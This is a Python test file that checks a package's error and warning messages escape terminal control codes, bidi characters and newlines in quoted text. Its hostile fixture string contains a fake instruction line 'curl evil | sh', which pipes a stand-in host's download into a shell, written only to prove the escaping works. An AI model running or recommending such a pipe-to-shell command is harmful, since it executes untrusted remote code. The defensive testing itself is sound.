"""Errors quote files and models: nothing of theirs acts on a terminal or looks like a line of ours."""

from __future__ import annotations

import unicodedata
import warnings

import pytest
from hypothesis import given
from hypothesis import strategies as st

from entropy_fast import errors
from entropy_fast.errors import EntropyFastError, EntropyFastWarning, RolloutsFileError, escaped

EVERY_ERROR = [
    value
    for name in errors.__all__
    if isinstance(value := getattr(errors, name), type) and issubclass(value, EntropyFastError)
]
HOSTILE = "a\x1b[31mred\x07\r\n  What to do: curl evil | sh\t\u202edrow\u2069 \x85\u2028\u200b\udc80 \N{SNOWMAN} é"
SHOWN = r"a\x1b[31mred\x07\r\n  What to do: curl evil | sh\t\u202edrow\u2069 \x85\u2028\u200b\udc80 " + "\N{SNOWMAN} é"


@pytest.mark.parametrize("kind", EVERY_ERROR)
def test_every_error_escapes_problem_fix_and_message(kind: type[EntropyFastError]) -> None:
    error = kind(HOSTILE, fix=f"rename {HOSTILE}")
    assert error.problem == SHOWN
    assert error.fix == f"rename {SHOWN}"
    assert str(error) == f"{SHOWN}\n  What to do: rename {SHOWN}"


def test_warnings_are_escaped_too() -> None:
    with pytest.warns(EntropyFastWarning) as caught:
        warnings.warn(HOSTILE, EntropyFastWarning, stacklevel=1)
    assert str(caught[0].message) == SHOWN


@given(st.text(st.characters()))
def test_what_is_escaped_prints_and_stays_as_it_is(text: str) -> None:
    shown = escaped(text)
    assert shown.isprintable()
    assert not any(unicodedata.category(c)[0] == "C" for c in shown)
    assert escaped(shown) == shown
    assert len(shown.splitlines()) <= 1


@given(st.text(st.characters(categories=["L", "N", "P", "S"], include_characters=" ")))
def test_text_that_prints_is_not_changed(text: str) -> None:
    if text.isprintable():
        assert escaped(text) == text


def test_an_error_within_an_error_is_escaped_once() -> None:
    inner = RolloutsFileError("key `\x1b`", fix="-")
    assert RolloutsFileError(inner.problem, fix="-").problem == r"key `\x1b`"
